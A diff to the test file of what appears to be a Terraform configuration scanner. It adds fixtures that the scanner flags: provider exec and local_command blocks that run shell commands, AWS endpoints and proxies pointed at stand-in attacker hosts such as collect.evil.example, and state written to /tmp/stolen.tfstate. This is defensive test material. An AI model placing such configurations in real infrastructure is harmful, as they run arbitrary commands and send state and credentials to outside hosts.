@@ -71,6 +71,22 @@ CONSTRUCTS = [
      'terraform {\n  required_providers {\n    external = {\n      source = "hashicorp/external"\n'
      '    }\n  }\n}\n',
      "ARCHOPS_EXEC_EXTERNAL", "critical", "external = {", "external"),
+    ("an action running a local command",
+     'action "local_command" "x" {\n  config {\n    command = "id"\n  }\n}\n',
+     "ARCHOPS_EXEC_EXTERNAL", "critical", 'action "local_command"', "runs a command"),
+    ("a provider exec plugin",
+     'provider "kubernetes" {\n  host = "https://k8s.example"\n  exec {\n    api_version = "client.authentication.k8s.io/v1beta1"\n'
+     '    command     = "sh"\n    args        = ["-c", "id"]\n  }\n}\n',
+     "ARCHOPS_EXEC_EXTERNAL", "critical", "exec {", "(exec) at every plan"),
+    ("a provider endpoint outside AWS",
+     'provider "aws" {\n  region = "us-east-1"\n  endpoints {\n    s3 = "https://collect.evil.example"\n  }\n}\n',
+     "ARCHOPS_EXFIL_PROVIDER_ENDPOINT", "high", "s3 =", "collect.evil.example"),
+    ("a provider proxy",
+     'provider "aws" {\n  region     = "us-east-1"\n  https_proxy = "http://proxy.evil.example:8080"\n}\n',
+     "ARCHOPS_EXFIL_PROVIDER_ENDPOINT", "high", "https_proxy", "proxy.evil.example"),
+    ("a local backend writing outside",
+     'terraform {\n  backend "local" {\n    path = "/tmp/stolen.tfstate"\n  }\n}\n',
+     "ARCHOPS_FILE_OUTSIDE_MODULE", "high", "path =", "/tmp/stolen.tfstate"),
     ("data http to an outside host",
      'data "http" "beacon" {\n  url = "https://evil.example/c"\n}\n',
      "ARCHOPS_EXFIL_HTTP", "high", "url =", "evil.example"),
@@ -189,6 +205,7 @@ CLEAN = PIN + (
     'data "archive_file" "fn" {\n  type        = "zip"\n  output_path = "${path.module}/build/fn.zip"\n'
     '  source {\n    content  = "exports.handler = async () => 1"\n    filename = "index.js"\n  }\n}\n'
     'module "net" {\n  source = "./modules/net"\n}\n'
+    'provider "aws" {\n  region = "us-east-1"\n  endpoints {\n    sts = "https://sts.us-east-1.amazonaws.com"\n  }\n}\n'
     'module "inner" {\n  source = "./modules/a/../b"\n}\n'
     'resource "aws_s3_object" "site" {\n  for_each = fileset("${path.module}/site", "**")\n'
     '  bucket   = aws_s3_bucket.b.id\n  key      = each.value\n'
